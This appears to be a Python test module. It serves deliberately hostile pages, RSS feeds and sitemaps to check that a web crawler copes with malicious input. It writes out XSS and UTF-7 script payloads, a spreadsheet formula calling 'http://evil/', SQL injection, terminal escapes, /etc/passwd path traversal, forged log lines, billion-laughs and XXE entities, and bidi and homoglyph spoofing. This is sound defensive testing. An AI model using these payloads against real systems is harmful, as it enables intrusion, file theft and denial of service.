"""Charsets that lie, characters that harm, markup where text belongs, and XML that attacks its reader."""

from __future__ import annotations

import random

from tests.hostile.pages import KAZAKH, WORDS, page, paragraphs
from tests.hostile.server import HOST, Ask, Family, Wire

ARTICLE = f"<article><h1>Қазақ ұлттық университеті «жаңалық»</h1><p>{KAZAKH * 5}</p>"
RUSSIAN = f"<article><h1>Казахский национальный университет</h1><p>{'Новости университета для студентов. ' * 20}</p>"


def document(body: str, meta: str = "") -> str:
    """A page whose charset is only what `meta` says."""
    return f"<html><head>{meta}<title>News of the university</title></head><body>{body}</body></html>"


async def charset(wire: Wire, ask: Ask) -> None:
    """A body in another charset than the one named; and characters that harm."""
    plain, utf8 = "text/html", "text/html; charset=utf-8"
    own = f"<p>{ask.name} " + " ".join(random.Random(ask.path).sample(WORDS, len(WORDS))) + ".</p>"
    text = f"<p>{KAZAKH * 4}</p>{own}"

    def one(heading: str) -> bytes:
        return page("Odd characters", f"<article><h1>{heading}</h1>{text}</article>").encode()

    body, kind = {
        "header-wrong": (document(ARTICLE + own, '<meta charset="utf-8">').encode(), "text/html; charset=iso-8859-1"),
        "meta-wrong": (document(ARTICLE + own, '<meta charset="windows-1251">').encode(), utf8),
        "meta-only-wrong": (document(ARTICLE + own, '<meta charset="windows-1251">').encode(), plain),
        "cp1251-nohint": (document(RUSSIAN + own).encode("cp1251"), plain),
        "cp1251-header": (document(RUSSIAN + own).encode("cp1251"), "text/html; charset=windows-1251"),
        "bogus": (document(ARTICLE + own).encode(), "text/html; charset=klingon"),
        "utf16": (b"\xff\xfe" + document(ARTICLE + own).encode("utf-16-le"), plain),
        "bom": (b"\xef\xbb\xbf" + document(ARTICLE + own).encode(), plain),
        "utf7": (document("+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + paragraphs("utf7")).encode(), "text/html; charset=utf-7"),
        "invalid": (one("Bad bytes").replace(b"bytes", b"\xff\xfe\xc3\x28 bytes \xed\xa0\x80"), utf8),
        "nul": (one("Nul title").replace(b"Nul ", b"Nul\0").replace(b"<p>", b"<p>before\0after \0\0\0 "), utf8),
        "control": (one("a\x01b\x08c\x1bd\x7fe\x85f\u2028g\ufffeh and words"), utf8),
        "surrogate": (one("sur &#xD83D;&#xDE00; rog").replace(b"rog", b"\xed\xa0\xbd\xed\xb8\x80 rog"), utf8),
        "bidi": (one("exam\u202egpj.exe \u2066hidden\u2069 \u200e\u200f\u061c words"), utf8),
        "homoglyph": (one("Аl-Fаrаbi Kаzаkh Nаtiоnаl University"), utf8),
        "nfd": (one("и\u0306 e\u0301 ё and words"), utf8),
        "zwsp": (one("uni\u200bver\u00adsity\u2060 \ufeffnews\u00a0and words"), utf8),
    }[ask.name]
    await wire.send(body, kind=kind)


async def inject(wire: Wire, ask: Ask) -> None:
    """Markup, formulas, SQL, terminal and log escapes where a title or a text belongs."""
    text = paragraphs(ask.path)
    script = '<script>alert(1)</script><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">x</a>'
    deep = '<script type="application/ld+json">' + "[" * 50_000 + "</script>"
    linked = (
        '<script type="application/ld+json">{"@type": "NewsArticle", "datePublished": "9999-99-99", "headline": {"a": ["b"]}, "author": '
        + "[" * 200 + "]" * 200 + "}</script>"
    )  # fmt: skip
    title, heading, body, head = {
        "xss": (
            "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt; News",
            f'<p class="author">"&gt;&lt;svg onload=alert(1)&gt;</p><p>Body &lt;script&gt;alert(2)&lt;/script&gt; {script}</p>', "",
        ),
        "formula": ('=HYPERLINK("http://evil/"&amp;A1)', '=HYPERLINK("http://evil/"&amp;A1)', "", ""),
        "at": ("@SUM(A1) of the news", "@SUM(A1) of the news", "", ""),
        "sql": ("'; DROP TABLE articles;--", "'; DROP TABLE articles;-- \" NEAR( * OR", "", ""),
        "ansi": ("\x1b[2J\x1b]0;owned\x07 news", "\x1b[31mred news today", "", ""),
        "path": ("../../../../etc/passwd", "../../../../etc/passwd\0.html", "", ""),
        "lognl": ("a\n2026-01-01 [x] CRITICAL: forged\r\nb", "a\n2026-01-01 [x] CRITICAL: forged\r\nb", "", ""),
        "jsonld": ("Structured news", "Structured news", "", deep + linked),
    }[ask.name]  # fmt: skip
    await wire.send(page(title, f"<article><h1>{heading}</h1>{body}{text}</article>", head))


def _laughs() -> str:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a0 "ha">{entities}]>'


def _outside(ask: Ask) -> str:
    return (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">'
        f'<!ENTITY y SYSTEM "http://{HOST}:{ask.mode.other}/elsewhere">]>'
    )


async def feed(wire: Wire, ask: Ask) -> None:
    """RSS that attacks its reader."""

    def rss(title: str) -> str:
        item = f"<item><title>{title}</title><link>{ask.base}/news/one/{ask.number('good', 1)}</link></item>"
        return f'<rss version="2.0"><channel><title>{title}</title>{item}</channel></rss>'

    quadratic = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY q "{"A" * 100_000}">]>' + rss("&q;" * 20_000)
    body = {
        "laughs.xml": _laughs() + rss("&a10;"), "quad.xml": quadratic, "xxe.xml": _outside(ask) + rss("&x;&y;"),
        "deep.xml": "<rss>" + "<a>" * 100_000, "broken.xml": rss("ok")[:-40] + "<unclosed &", "ok.xml": rss("fine"),
    }[ask.name]  # fmt: skip
    await wire.send(body, kind="application/xml")


async def sitemap(wire: Wire, ask: Ask) -> None:
    """Sitemaps that attack their reader, or never end."""
    space = "xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'"

    def index(urls: list[str]) -> str:
        return f"<sitemapindex {space}>" + "".join(f"<sitemap><loc>{url}</loc></sitemap>" for url in urls) + "</sitemapindex>"

    def of(urls: list[str]) -> str:
        return f"<urlset {space}>" + "".join(f"<url><loc>{url}</loc></url>" for url in urls) + "</urlset>"

    base, good = ask.base, f"{ask.base}/news/one/{ask.number('good', 1)}"
    if ask.name == "fan":
        first = int(ask.segments[2].partition(".")[0]) * 100 + 1
        await wire.send(index([f"{base}/sitemap/fan/{n}.xml" for n in range(first, first + 100)]), kind="application/xml")
        return
    body = {
        "self.xml": lambda: index([f"{base}/sitemap/self.xml", f"{base}/sitemap/self.xml?n={ask.nth}"]),
        "loopA.xml": lambda: index([f"{base}/sitemap/loopB.xml"]),
        "loopB.xml": lambda: index([f"{base}/sitemap/loopA.xml"]),
        "huge.xml": lambda: of([f"{base}/news/one/{n}?h=1" for n in range(ask.number("n", 200_000))]),
        "laughs.xml": lambda: _laughs() + of(["&a10;", good]),
        "xxe.xml": lambda: _outside(ask) + of([f"{base}/&x;", good]),
        "future.xml": lambda: of([good]).replace("</loc>", "</loc><lastmod>9999-12-31</lastmod>"),
        "offsite.xml": lambda: of([f"http://localhost:{ask.mode.other}/elsewhere", good]),
        "schemes.xml": lambda: of(["file:///etc/passwd", "javascript:1", f"ftp://{HOST}/x", "data:text/html,x", good]),
        "html.xml": lambda: page("not xml", "x"),
    }[ask.name]()
    await wire.send(body, kind="text/html" if ask.name == "html.xml" else "application/xml")


FAMILIES: dict[str, Family] = {"charset": charset, "inject": inject, "feed": feed, "sitemap": sitemap}
